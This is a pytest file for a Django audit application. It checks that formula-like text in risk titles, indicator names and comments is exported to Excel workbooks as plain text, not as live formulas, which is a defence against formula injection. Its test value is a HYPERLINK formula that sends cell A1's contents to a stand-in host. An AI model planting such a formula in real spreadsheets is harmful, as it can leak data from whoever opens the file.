"""Text that looks like a formula is written to every workbook as text, never as a formula."""

from __future__ import annotations

import io

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from audit.concurrency import save_versioned
from followup.models import Outcome
from tests.conftest import World
from tests.followup_views.conftest import FollowupWorld
from tests.internal_control_views.conftest import ControlWorld

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Klicka här")'


def _formulas(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_control_plan_and_history_export_keep_formula_text_as_text(
    world: World, control_world: ControlWorld, login
) -> None:  # type: ignore[no-untyped-def]
    risk = control_world.risks[0]
    save_versioned(risk, risk.version, {"title": FORMULA}, actor=world.controller)
    client = login(world.auditor)
    plan = client.get(reverse("reports:control_plan_xlsx", args=[control_world.plan.pk]))
    assert plan.status_code == 200
    assert FORMULA in _texts(plan.content)
    assert _formulas(plan.content) == []
    today = timezone.localdate().isoformat()
    history = client.get(
        reverse("history:export"),
        {"unit": world.committee.pk, "date_from": today, "date_to": today},
    )
    assert history.status_code == 200
    assert any(FORMULA in text for text in _texts(history.content))
    assert _formulas(history.content) == []


def test_tertial_report_keeps_formula_text_as_text(
    world: World, followup_world: FollowupWorld, login
) -> None:  # type: ignore[no-untyped-def]
    indicator = followup_world.indicators[0]
    indicator.name = "=1+2"
    indicator.save()
    Outcome.objects.create(
        indicator=indicator,
        period=followup_world.period,
        unit=world.committee,
        total=72,
        comment="+SUM(A1:A9)",
    )
    response = login(world.reader).get(
        reverse("reports:tertial_report_xlsx", args=[world.committee.pk, followup_world.period.pk])
    )
    assert response.status_code == 200
    texts = _texts(response.content)
    assert any("=1+2" in text for text in texts)
    assert _formulas(response.content) == []
